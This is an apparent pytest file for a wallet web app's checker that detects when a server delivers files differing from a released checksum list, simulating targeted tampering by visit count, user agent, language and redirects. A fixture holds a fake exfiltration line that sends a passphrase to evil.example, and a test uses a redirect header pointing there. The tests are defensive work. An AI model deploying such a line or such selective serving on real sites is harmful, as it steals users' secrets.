"""A page that is served otherwise than it was released is noticed, whomever the server lies to.

Given a server that changed its files       the first visit ran old code, the second captured a passphrase: kept here
"""

import threading
from collections.abc import Callable, Iterator, Mapping
from contextlib import contextmanager
from hashlib import sha256
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import pytest

from jamjar.errors import InvalidInput
from jamjar.service.served_page import WAYS, PageAltered, check_served, read_release

FILES = {"index.html": b"<script src=app.js>", "app.js": b"wallet()", "sw.js": b"cache()", "icons/a.svg": b"<svg/>"}
EVIL = b"fetch('https://evil.example/' + passphrase)"
SUMS = "".join(f"{sha256(data).hexdigest()}  site/{name}\n" for name, data in FILES.items())
RELEASE = read_release(SUMS + f"{sha256(b'x').hexdigest()}  jamjar.html\n")
HEADERS: dict[str, str] = {}
Answer = Callable[[str, Mapping[str, str], int], tuple[int, bytes]]


def honest(path: str, _: Mapping[str, str], __: int) -> tuple[int, bytes]:
    data = FILES.get(path or "index.html")
    return (404, b"") if data is None else (200, data)


@contextmanager
def served(answer: Answer) -> Iterator[str]:
    """Serve what `answer` says to a path, the headers, and how often the path was asked for before."""
    asked: dict[str, int] = {}

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            path = self.path.removeprefix("/wallet/")
            status, data = answer(path, self.headers, asked.get(path, 0))
            asked[path] = asked.get(path, 0) + 1
            self.send_response(status)
            if status == 302:
                self.send_header("Location", "/wallet/elsewhere")
            for header in HEADERS.items():
                self.send_header(*header)
            self.send_header("Content-Length", str(len(data)))
            self.end_headers()
            self.wfile.write(data)

        def log_message(self, *_: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield f"http://127.0.0.1:{server.server_port}/wallet/"
    server.shutdown()
    server.server_close()
    thread.join()


def evil_when(condition: Callable[[str, Mapping[str, str], int], bool], status: int = 200) -> Answer:
    def answer(path: str, headers: Mapping[str, str], before: int) -> tuple[int, bytes]:
        return (status, EVIL) if condition(path, headers, before) else honest(path, headers, before)

    return answer


ATTACKS = {
    "app.js": evil_when(lambda path, _, before: path == "app.js" and before == len(WAYS)),  # from the second visit on
    "sw.js": evil_when(lambda path, headers, _: path == "sw.js" and headers.get("Service-Worker") == "script"),
    "index.html": evil_when(lambda path, headers, _: path == "index.html" and "iPhone" in headers["User-Agent"]),
    "its first page": evil_when(lambda path, headers, _: not path and "cy" in headers.get("Accept-Language", "")),
    "icons/a.svg": evil_when(lambda path, _, before: path == "icons/a.svg" and before == 2 * len(WAYS) - 1),
    "as app.js": evil_when(lambda path, _, __: path == "app.js", 302),
    "status 404": lambda path, headers, before: (404, b"") if path == "sw.js" else honest(path, headers, before),
}


@pytest.mark.parametrize("named", ATTACKS)
def test_an_altered_page_is_noticed_and_named(named: str) -> None:
    with served(ATTACKS[named]) as url, pytest.raises(PageAltered, match="do not open it, and tell others") as raised:
        check_served(url, RELEASE, 2)
    assert named in str(raised.value)


def test_the_changed_second_visit_passes_a_single_look() -> None:
    """Why it asks more than once: the first visit is as it was released."""
    with served(ATTACKS["app.js"]) as url:
        assert check_served(url, RELEASE, 1) == len(WAYS) * (len(FILES) + 1)


def test_what_is_served_as_released() -> None:
    with served(honest) as url:
        assert check_served(url, RELEASE, 2) == 2 * len(WAYS) * (len(FILES) + 1)


def test_nobody_there() -> None:
    with served(honest) as url:
        pass
    with pytest.raises(PageAltered, match="did not answer"):
        check_served(url, RELEASE, 1)


@pytest.mark.parametrize(
    "text",
    [
        "", "app.js", SUMS.replace("  ", " "), SUMS + SUMS, SUMS.upper(), SUMS.replace("site/", ""),
        SUMS.replace("icons/a.svg", "../a.svg"), SUMS.replace("icons/a.svg", "a.svg?x"),
    ],
)  # fmt: skip
def test_what_is_no_release(text: str) -> None:
    with pytest.raises(InvalidInput, match=r"build it again|make phone-build"):
        read_release(text)


@pytest.mark.parametrize(
    "header", [("Refresh", "0;url=https://evil.example"), ("refresh", "9"), ("Clear-Site-Data", '"storage"')]
)
def test_a_header_that_leads_away_or_empties_the_browser(
    monkeypatch: pytest.MonkeyPatch, header: tuple[str, str]
) -> None:
    monkeypatch.setitem(HEADERS, *header)
    with served(honest) as url, pytest.raises(PageAltered, match=f"header {header[0].lower()}, which"):
        check_served(url, RELEASE, 1)
